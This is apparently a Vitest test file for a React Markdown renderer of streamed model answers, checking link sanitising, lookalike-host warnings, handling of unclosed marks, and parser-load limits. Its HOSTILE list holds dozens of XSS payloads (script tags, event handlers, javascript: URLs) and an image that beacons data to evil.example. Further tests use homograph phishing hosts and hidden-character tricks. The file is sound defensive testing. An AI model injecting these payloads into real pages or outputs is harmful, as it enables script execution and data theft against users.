import "./dom.js";
import { fireEvent, render, screen } from "@testing-library/react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it, test, vi } from "vitest";
import { closeTail, hostToShow, Markdown, safeAddress, splitMarkdown } from "../src/markdown.js";

const ELEMENTS = new Set(
  "A BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE HR INPUT LI OL P PRE SECTION SPAN STRONG SUP TABLE TBODY TD TH THEAD TR UL".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "class href target rel tabindex role aria-label aria-live start type checked readonly disabled".split(" "),
);

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg><svg/onload=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
  "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
  "<form action=//evil.example><input name=q><button>go</button></form>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<div style='background:url(//evil.example)'>x</div>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/v1/sessions)",
  "[x](#user-content-fn-1)",
  "[x](blob:http://x)",
  "![x](http://evil.example/?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[![x](http://evil.example/p.png)](javascript:alert(1))",
  "![x][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "[x](http://a 'title\" onmouseover=alert(1)')",
  "```html\n<script>alert(1)</script>\n```",
  '```"onload=alert(1)\ncode\n```',
  "`<script>alert(1)</script>`",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
  "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:1)",
  "- [x] <b onclick=alert(1)>done</b>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<a\nhref=javascript:alert(1)>x",
  "<ScRiPt\x00>alert(1)</ScRiPt>",
];

/** Elements that must never be on the page. */
function faults(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll("*")) {
    if (!ELEMENTS.has(element.tagName)) found.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) found.push(`${element.tagName} ${name}=${value}`);
      if (name === "href" && !/^(?:https?:\/\/|mailto:)/u.test(value)) found.push(`href=${value}`);
    }
    if (element.tagName === "A" && element.getAttribute("rel") !== "noopener noreferrer nofollow") found.push("rel");
  }
  return found;
}

describe("hostile text", () => {
  it.each(HOSTILE)("can do nothing: %s", (text) => {
    const { container } = render(<Markdown text={text} />);
    expect(faults(container)).toEqual([]);
  });

  it("is harmless while it is streamed, cut anywhere", () => {
    const whole = HOSTILE.join("\n\n");
    const { container, rerender } = render(<Markdown text="" />);
    for (let end = 0; end <= whole.length; end += 5) {
      rerender(<Markdown text={whole.slice(0, end)} isLive />);
      expect(faults(container), whole.slice(0, end).slice(-40)).toEqual([]);
    }
  }, 60_000);

  it("is found by the check if it is not escaped", () => {
    const { container } = render(
      <p title="x">
        <img src="x" alt="" />
        <a href="javascript:void">x</a>
      </p>,
    );
    expect(faults(container)).toHaveLength(6);
  });
});

test.each([
  ["https://example.com/a?b=c#d", "https://example.com/a?b=c#d"],
  ["HTTP://EXAMPLE.com", "http://example.com/"],
  ["mailto:a@example.com", "mailto:a@example.com"],
  ["javascript:alert(1)", undefined],
  [" https://example.com", undefined],
  ["https:example.com", undefined],
  ["https://", undefined],
  ["//example.com", undefined],
  ["", undefined],
])("the address %j may be %j", (address, expected) => {
  expect(safeAddress(address)).toBe(expected);
});

test("links open in a new tab without a referrer", () => {
  render(<Markdown text="See [here](https://example.com/x) or https://example.com/y" />);
  const links = screen.getAllByRole("link");
  expect(links.map((link) => link.getAttribute("href"))).toEqual(["https://example.com/x", "https://example.com/y"]);
});

test("an image is shown as its alternative text", () => {
  const { container } = render(<Markdown text="![a cat](https://example.com/cat.png)" />);
  expect(container.textContent).toBe("[image: a cat]");
  expect(container.querySelector("img")).toBeNull();
});

test("code shows its language, and is copied verbatim", () => {
  const written = vi.fn(() => Promise.resolve());
  vi.stubGlobal("navigator", { clipboard: { writeText: written } });
  render(<Markdown text={"```ts\nconst a = '<b>';\n```"} />);
  expect(screen.getByRole("group", { name: "ts" }).textContent).toBe("const a = '<b>';");
  fireEvent.click(screen.getByRole("button", { name: "Copy" }));
  expect(written).toHaveBeenCalledWith("const a = '<b>';");
  vi.unstubAllGlobals();
});

test("line breaks stay, once each; those in code and between blocks are unchanged", () => {
  const { container } = render(<Markdown text={"One\ntwo  \n*three\nfour*\n\n- a\n- b\n\n`x\ny`"} />);
  expect(container.querySelector("p")?.innerHTML.replaceAll("\n", "")).toBe("One<br>two<br><em>three<br>four</em>");
  expect(container.querySelectorAll("br")).toHaveLength(3);
});

test.each([
  ["Now **steep si", "Now **steep si**"],
  ["Now **steep ", "Now **steep**"],
  ["Now **steep*", "Now **steep**"],
  ["Now **", "Now "],
  ["Done **well**", "Done **well**"],
  ["**bold and *both", "**bold and *both***"],
  ["A `piece of", "A `piece of`"],
  ["A `piece of` and `", "A `piece of` and "],
  ["~~gone", "~~gone~~"],
  ["2 * 3 and 2*3 and a_name_of", "2 * 3 and 2*3 and a_name_of"],
  ["\\*no mark", "\\*no mark"],
  ["- **one\n- two", "- **one\n- two"],
  ["* item _x", "* item _x_"],
  ["```\n**code", "```\n**code"],
  ["`**` and **x", "`**` and **x**"],
])("while it is written, %j is shown as %j", (text, expected) => {
  expect(closeTail(text)).toBe(expected);
});

test("finished text is shown unchanged", () => {
  const { container, rerender } = render(<Markdown text="Now **steep si" isLive />);
  expect(container.querySelector("strong")?.textContent).toBe("steep si");
  rerender(<Markdown text="Now **steep si" />);
  expect(container.textContent).toBe("Now **steep si");
});

const TEXTS = [
  "One.\n\nTwo.\n\nThree.",
  "# Title\n\nText\n\n```js\na\n\n\nb\n```\n\nAfter.",
  "- a\n\n- b\n\n  more of b\n\nAfter the list.\n\n1. x\n\n2. y\n\nEnd.",
  "> quote\n\n> more\n\nplain",
  "| a |\n|---|\n| 1 |\n\ntext",
  "~~~\n```\n\nstill code\n\n~~~\n\nout",
  "````\n```\n\ncode\n```\n\nmore\n````\n\nout",
  "    indented\n\n    code\n\ntext",
  "a [ref] b\n\nlater\n\n[ref]: https://example.com",
  "foot[^1]\n\ntext\n\n[^1]: note",
  "para\n\n---\n\npara **bold**\n\n* * *\n\nend",
  "```\nnever closed\n\nmore",
];

describe("text in parts", () => {
  const html = (parts: readonly string[]): string =>
    parts
      .map((part) => renderToStaticMarkup(<Markdown text={part} />))
      .join("")
      .replaceAll(/<\/div><div class="min-w-0[^>]*>/gu, "")
      .replaceAll("\n", "");

  it.each(TEXTS)("means the same as the whole: %j", (text) => {
    const parts = splitMarkdown(text);
    expect(parts.join("")).toBe(text);
    // A definition at the end forbids to cut, and changes nothing in these texts.
    const whole = `${text}\n\n[unused-definition]: https://example.com`;
    const isOpen = text.includes("never closed");
    if (!isOpen) expect(html(parts)).toBe(html([whole]));
  });

  it("is cut where it can be, so that only the end is read again", () => {
    expect(splitMarkdown("One.\n\nTwo.\n\nThree.")).toEqual(["One.\n\n", "Two.\n\n", "Three."]);
    expect(splitMarkdown("```\na\n\nb\n```\n\nc")).toEqual(["```\na\n\nb\n```\n\n", "c"]);
    expect(splitMarkdown("")).toEqual([]);
  });

  it("keeps the elements of earlier parts while the last one grows", () => {
    const { container, rerender } = render(<Markdown text={"First *one*.\n\nSec"} />);
    const first = container.querySelector("em");
    rerender(<Markdown text={"First *one*.\n\nSecond and **more**.\n\n- list"} />);
    expect(container.querySelector("em")).toBe(first);
  });
});

test("columns of a table are aligned as they say", () => {
  render(<Markdown text={"| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |"} />);
  const aligned = screen
    .getAllByRole("cell")
    .map(({ className }) => /text-(?:left|center|right)/u.exec(className)?.[0]);
  expect(aligned).toEqual(["text-left", "text-center", "text-right"]);
});

test.each([
  ["marks that open and never close", "*a_ ".repeat(20_000)],
  ["emphasis in emphasis", `${"*".repeat(10_000)}a${"*".repeat(10_000)}`],
  ["images in images", "![".repeat(3_000) + "](x)".repeat(3_000)],
  ["quotes in quotes", `${">".repeat(5_000)} x`],
  ["lists in lists", `${"- ".repeat(5_000)}x`],
  ["many costly parts", `${"*a_ ".repeat(400)}\n\n`.repeat(40)],
  ["a table of 90,000 cells", `${"|a".repeat(300)}\n${"|-".repeat(300)}\n${`${"|b".repeat(300)}\n`.repeat(300)}`],
])("%s: a text that would hold the page up is shown as it is written", (_, text) => {
  const { container } = render(<Markdown text={text} />);
  expect(container.textContent).toBe(text);
  expect(container.querySelectorAll("*").length).toBeLessThan(40);
});

test("a long answer of a model is read as Markdown", () => {
  const text = "1. **One** of [many](https://example.com/a) with `code`.\n".repeat(150) + `\n${"-".repeat(80)}\n`;
  const { container } = render(<Markdown text={text} />);
  expect(container.querySelectorAll("li strong")).toHaveLength(150);
});

test("a link that may lead elsewhere than it says names where it leads", () => {
  expect(hostToShow("https://evil.example/", "https://bank.example/login")).toBe("evil.example");
  expect(hostToShow("https://bank.example@evil.example/", "your bank")).toBe("evil.example");
  expect(hostToShow("https://xn--pple-43d.com/", "apple")).toBe("xn--pple-43d.com");
  expect(hostToShow("https://docs.example.com/a", "the docs")).toBeUndefined();
  expect(hostToShow("https://www.example.com:8443/a", "example.com/a")).toBeUndefined();
  expect(hostToShow("mailto:ann@example.com", "Write to ann@example.com")).toBeUndefined();
  expect(hostToShow("mailto:thief@evil.example", "help@bank.example")).toBe("thief@evil.example");
  expect(hostToShow("https://evil.example/", "evil.example, or bank.example")).toBe("evil.example");
  for (const disguised of [
    "bank\u200d.example",
    "bank。example",
    "bank\u2024example",
    "ｂａｎｋ．example",
    "127.0.0.1",
  ])
    expect(hostToShow("https://evil.example/", disguised)).toBe("evil.example");
  for (const inside of ["**bank.example**", "`bank.example`", "ba*nk*.example", "![bank.example](x.png)"]) {
    const { container, unmount } = render(<Markdown text={`[${inside}](https://evil.example/)`} />);
    expect(container.textContent).toContain("[leads to evil.example]");
    unmount();
  }
  render(<Markdown text="[https://bank.example](https://evil.example)" />);
  expect(screen.getByText("[leads to evil.example]", { exact: false })).toBeTruthy();
});

test("characters that turn text around or hide are shown, also in code; those of scripts and emoji stay", () => {
  const { container } = render(<Markdown text={"pay \u202eevil\u202c `a\u200bb` \u{1f469}\u200d\u{1f4bb}"} />);
  expect(container.textContent).toBe("pay \\u202eevil\\u202c a\\u200bb \u{1f469}\u200d\u{1f4bb}");
});
